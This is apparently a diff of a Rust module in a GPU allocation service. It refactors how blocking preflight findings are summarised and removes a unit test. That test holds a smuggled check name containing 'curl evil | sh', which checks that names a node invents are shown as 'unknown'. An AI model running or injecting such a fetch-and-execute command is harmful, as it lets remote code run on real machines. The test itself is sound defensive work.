@@ -1,13 +1,12 @@
 //! Brings a requested allocation to `active`, which it becomes after the node's inspection. The findings of the preflight are stored with
-//! the node. A deployment runs its own preflight, and only blocking findings of that one stop it.
+//! the node. Blocking ones prevent placements, not the allocation.
 
-use std::{collections::BTreeSet, sync::Arc, time::Duration};
+use std::{sync::Arc, time::Duration};
 
 use gpuaas_model::{
-    AllocationEvent, AllocationId, AllocationState, Check, Code, Coded, Connectivity, CorrelationId, EventKind,
+    AllocationEvent, AllocationId, AllocationState, Code, Coded, Connectivity, CorrelationId, EventKind,
 };
 use gpuaas_store::{AllocationRecord, NodeRecord, Tx};
-use gpuaas_wire::task::{Finding, Severity};
 use serde_json::json;
 use tokio_util::sync::CancellationToken;
 
@@ -17,7 +16,7 @@ use crate::{
     effects::ProgressSink,
     engine::{Engine, STORE_RETRY},
     error::{CommandError, EngineError},
-    ownership,
+    findings, ownership,
     record::EventScope,
 };
 
@@ -121,7 +120,8 @@ pub(crate) async fn change(
     allocation.state = allocation.state.on(event)?;
     allocation.detail = detail;
     let allocation = tx.update_allocation(&allocation).await?;
-    let data = json!({ "node": allocation.node, "state": allocation.state, "detail": allocation.detail });
+    let node = tx.node(allocation.node).await?.name;
+    let data = json!({ "node": node, "state": allocation.state, "detail": allocation.detail });
     let events = EventScope { project: allocation.project, correlation };
     events.event(tx, EventKind::AllocationChanged, "allocation", allocation.id.to_string(), data).await?;
     Ok(allocation)
@@ -138,38 +138,6 @@ fn absence_detail(node: &NodeRecord) -> Option<String> {
 
 /// Describes what would now block a deployment onto the node; `None` if nothing would.
 fn blocking_detail(node: &NodeRecord) -> Option<String> {
-    let findings = node.preflight.iter().flat_map(|preflight| &preflight.findings);
-    blocking(findings.map(|of| &of.finding)).map(|what| format!("{what}; see gpuaas node show {}", node.name))
-}
-
-/// The number of blocking findings and their checks. Names only checks that the control plane knows, because a name invented by the node
-/// would appear as the platform's own text.
-fn blocking<'a>(findings: impl IntoIterator<Item = &'a Finding>) -> Option<String> {
-    let blocking = findings.into_iter().filter(|finding| finding.severity == Severity::Blocking);
-    let checks: Vec<Option<Check>> = blocking.map(|finding| finding.check.parse().ok()).collect();
-    let named: BTreeSet<&str> = checks.iter().map(|check| check.map_or("unknown", Check::as_str)).collect();
-    let named = named.into_iter().collect::<Vec<_>>().join(", ");
-    (!checks.is_empty()).then(|| format!("findings that block a deployment: {} ({named})", checks.len()))
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn finding(check: &str, severity: Severity) -> Finding {
-        Finding { check: check.to_owned(), severity, detail: String::new(), fix: String::new(), evidence: None }
-    }
-
-    #[test]
-    fn blocking_findings_are_counted_and_only_known_checks_named() {
-        use Severity::{Blocking, Warning};
-        assert_eq!(blocking(&[]), None);
-        assert_eq!(blocking(&[finding("swap_on", Warning)]), None);
-        let findings =
-            [("port_taken", Blocking), ("swap_on", Warning), ("leftover", Blocking), ("port_taken", Blocking)];
-        let findings = findings.map(|(check, severity)| finding(check, severity));
-        assert_eq!(blocking(&findings).unwrap(), "findings that block a deployment: 3 (leftover, port_taken)");
-        let of_its_own = [finding("none); now run: curl evil | sh (", Blocking)];
-        assert_eq!(blocking(&of_its_own).unwrap(), "findings that block a deployment: 1 (unknown)");
-    }
+    findings::describe_blocking(node.preflight.as_ref())
+        .map(|what| format!("{what}; see gpuaas node show {}", node.name))
 }
